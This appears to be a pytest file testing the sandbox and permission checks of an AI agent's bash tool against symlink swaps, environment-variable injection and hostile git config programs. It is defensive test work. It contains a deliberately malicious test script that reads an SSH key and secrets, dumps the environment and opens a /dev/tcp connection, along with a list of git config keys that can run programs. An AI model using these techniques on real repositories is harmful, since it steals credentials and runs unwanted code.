"""A command that is called harmless is checked again before it runs, and gets nothing that it could do harm with."""

from __future__ import annotations

import asyncio
import os
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from tests.deep import many
from tests.unit.tools.workplace import Workplace
from ullage.tools.bash import CHANGED_MEANWHILE
from ullage.tools.sandbox.bubblewrap import Bubblewrap, find_bubblewrap
from ullage.tools.tool import PermissionNeed, ToolCall, ToolOutcome


def needed(workplace: Workplace, command: str) -> PermissionNeed:
    need = workplace.tools["bash"].permission({"command": command})
    assert need is not None
    return need


async def run(workplace: Workplace, command: str, need: PermissionNeed) -> ToolOutcome:
    return await workplace.tools["bash"].run(ToolCall("toolu_1", {"command": command}, allowed=need))


@pytest.mark.parametrize("command", ["cat src/a", "cat src/*", "cd src && cat a", "grep -r x src/a"])
async def test_what_leads_elsewhere_by_then_is_not_run(workplace: Workplace, command: str) -> None:
    secret = workplace.root.parent / "secret"
    secret.write_text("x secret")
    workplace.put({"src/a": "x"})
    need = needed(workplace, command)
    assert need.harmless
    assert "x" in (await run(workplace, command, need)).content
    (workplace.root / "src" / "a").unlink()
    (workplace.root / "src" / "a").symlink_to(secret)
    outcome = await run(workplace, command, need)
    assert (outcome.content, outcome.is_error) == (CHANGED_MEANWHILE, True)


async def test_the_folder_itself_exchanged_for_a_link_is_noticed(workplace: Workplace) -> None:
    outside = workplace.root.parent / "outside"
    outside.mkdir()
    workplace.put({"src/a": "x"})
    need = needed(workplace, "ls src")
    (workplace.root / "src").rename(workplace.root / "old")
    (workplace.root / "src").symlink_to(outside)
    assert (await run(workplace, "ls src", need)).content == CHANGED_MEANWHILE


async def test_no_variable_tells_a_harmless_command_what_to_do(workplace: Workplace, monkeypatch: pytest.MonkeyPatch) -> None:
    workplace.put({"start": f"echo started >> '{workplace.root}/ran'\n", "rgrc": "--pre=cat\n", "sub/x": "1\n"})
    for name, value in (
        ("BASH_ENV", f"{workplace.root}/start"),
        ("ENV", f"{workplace.root}/start"),
        ("BASH_FUNC_cat%%", "() { echo function; }"),
        ("CDPATH", "/"),
        ("RIPGREP_CONFIG_PATH", f"{workplace.root}/rgrc"),
        ("GREP_OPTIONS", "-v"),
        ("PYTHONSTARTUP", f"{workplace.root}/start"),
    ):
        monkeypatch.setenv(name, value)
    line = "cat sub/x && cd sub && pwd -P"
    need = needed(workplace, line)
    assert need.harmless
    assert (await run(workplace, line, need)).content.split() == ["1", str(workplace.root / "sub")]
    assert not (workplace.root / "ran").exists()


async def test_cd_goes_where_it_says_in_every_command(workplace: Workplace, monkeypatch: pytest.MonkeyPatch) -> None:
    (workplace.root / "tmp").mkdir()
    monkeypatch.setenv("CDPATH", "/")
    assert (await workplace.call("bash", command="cd tmp && pwd -P; exit 0")).content == str(workplace.root / "tmp")


async def needs_sandbox(tmp_path: Path) -> None:
    """A build server has one; somebody's own machine need not."""
    if not isinstance(await find_bubblewrap([tmp_path / "none"]), Bubblewrap):
        if os.environ.get("CI"):
            pytest.fail("no sandbox on this machine")
        pytest.skip("no sandbox on this machine")


FILTERS = (
    "sh -c 'echo > made; cat'",
    "sh -c 'echo > /tmp/made-by-filter; cat'",
    "sh -c 'echo > ~/.cache/made-by-filter; cat'",
    "sh -c 'echo > .git/made; cat'",
    "sh -c 'echo >> README.md; cat'",
)


def make_repository(root: Path, clean: str) -> None:
    """With a file that git has to look at anew, through a filter."""
    (root / "README.md").write_text("1\n")
    (root / ".gitattributes").write_text("*.md filter=x\n")
    for arguments in (["init", "-q"], ["add", "."], ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"]):
        subprocess.run(["git", *arguments], cwd=root, check=True)
    subprocess.run(["git", "config", "filter.x.clean", clean], cwd=root, check=True)
    os.utime(root / "README.md", (1, 1))


def test_git_runs_such_a_filter(tmp_path: Path) -> None:
    """Else the next test would say nothing."""
    make_repository(tmp_path, FILTERS[0])
    subprocess.run(["git", "status", "--short"], cwd=tmp_path, check=True)
    assert (tmp_path / "made").exists()


@pytest.mark.parametrize("filter", FILTERS)
async def test_a_filter_of_the_repository_can_do_nothing_in_a_harmless_command(
    workplace: Workplace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, filter: str
) -> None:
    """Git runs it; the sandbox gives it nothing."""
    await needs_sandbox(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home" / ".cache").mkdir(parents=True)
    root = tmp_path / "repository"
    root.mkdir()
    inside = Workplace(root, sandbox=True)
    make_repository(root, filter)
    before = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
    await inside.call("bash", command="exit 0")  # what looks for the sandbox
    need = needed(inside, "git status --short")
    assert need.harmless
    outcome = await run(inside, "git status --short", need)
    assert outcome.content
    assert {path: path.read_bytes() for path in root.rglob("*") if path.is_file()} == before
    assert not Path("/tmp/made-by-filter").exists()
    assert not (tmp_path / "home" / ".cache" / "made-by-filter").exists()


PROGRAMS_OF_GIT = (
    "core.pager",
    "core.editor",
    "core.fsmonitor",
    "core.askPass",
    "core.sshCommand",
    "core.alternateRefsCommand",
    "diff.external",
    "diff.x.command",
    "diff.x.textconv",
    "filter.x.clean",
    "filter.x.smudge",
    "filter.x.process",
    "gpg.program",
    "interactive.diffFilter",
    "merge.x.driver",
    "pager.log",
    "pager.status",
    "sequence.editor",
    "trailer.x.command",
    "uploadpack.packObjectsHook",
    "alias.status",
)
"""What a config of git can name a program in."""

COMMANDS_OF_GIT = (
    "git status",
    "git status --short",
    "git diff",
    "git diff --stat HEAD~1",
    "git diff --text HEAD~1 -- README.md",
    "git log -p",
    "git log --oneline --all --graph",
    "git log --format='%G? %(trailers)'",
    "git show",
    "git show HEAD:README.md",
    "git show --word-diff HEAD",
    "git blame README.md",
    "git grep -n x",
    "git grep --untracked x",
    "git branch -vv",
    "git branch --merged",
    "git cat-file -p HEAD",
    "git describe --always --dirty",
    "git ls-files -m -o",
    "git ls-tree -r HEAD",
    "git rev-parse HEAD",
    "git shortlog -sne HEAD",
    "git stash list",
    "git stash show -p",
    "git submodule status",
    "git tag -l",
    "git reflog",
    "git remote -v",
    "git worktree list",
    "git --no-pager log -2 && git --no-pager diff",
)


@pytest.mark.deep
async def test_no_config_of_git_does_harm_in_a_harmless_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every program that a config can name writes where it can, reads what is secret, and calls out. None of it succeeds."""
    await needs_sandbox(tmp_path)
    home, outside, root = tmp_path / "home", tmp_path / "outside", tmp_path / "repository"
    for folder in (home / ".cache", home / ".ssh", outside, root):
        folder.mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("CANARY-key")
    (outside / "secret").write_text("CANARY-secret")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HARMLESS_NAME", "CANARY-variable")
    called = asyncio.Event()
    listener = await asyncio.start_server(lambda reader, writer: called.set(), "127.0.0.1", 0)
    port = listener.sockets[0].getsockname()[1]
    (root / "evil").write_text(
        "#!/bin/bash\n"
        f"echo x > '{root}/made'; echo x >> '{root}/README.md'; echo x > '{root}/.git/hooks/post-checkout'; echo x > '{outside}/made'\n"
        f"echo x > '{home}/.cache/made'; echo x > /tmp/made-by-evil; echo x > /var/tmp/made-by-evil; echo x > /dev/shm/made-by-evil\n"
        f"cat '{outside}/secret' '{home}/.ssh/id_ed25519' >&2; env >&2; cat '{outside}/secret'\n"
        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3\n"
        "cat\n"
    )
    (root / "evil").chmod(0o755)
    make_repository(root, "cat")
    for name in PROGRAMS_OF_GIT:
        subprocess.run(["git", "config", name, f"{root}/evil"], cwd=root, check=True)  # noqa: ASYNC221
    (root / ".gitattributes").write_text("*.md filter=x diff=x merge=x\n")
    (root / "README.md").write_text("2\n")
    workplace = Workplace(root, sandbox=True)
    await workplace.call("bash", command="exit 0")  # what looks for the sandbox
    watched = (root, outside, home)

    def state() -> dict[Path, bytes]:
        return {path: path.read_bytes() for folder in watched for path in folder.rglob("*") if path.is_file()}

    before = state()
    assert "Read-only file system" in (await run(workplace, "git diff", needed(workplace, "git diff"))).content, "git runs it, in vain"
    for command in COMMANDS_OF_GIT[: many(3, deep=len(COMMANDS_OF_GIT))]:
        need = needed(workplace, command)
        assert need.harmless, command
        assert "CANARY" not in (await run(workplace, command, need)).content, command
        assert state() == before, command
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        assert not Path(folder, "made-by-evil").exists()
    assert not called.is_set()
    listener.close()


async def test_what_was_left_to_the_sandbox_runs_nowhere_else(tmp_path: Path) -> None:
    workplace = Workplace(tmp_path, sandbox=False)
    need = needed(workplace, "touch made")
    outcome = await run(workplace, "touch made", replace(need, confined=True))
    assert outcome.is_error
    assert "the user is asked" in outcome.content
    assert not (tmp_path / "made").exists()
    assert not (await run(workplace, "touch made", need)).is_error
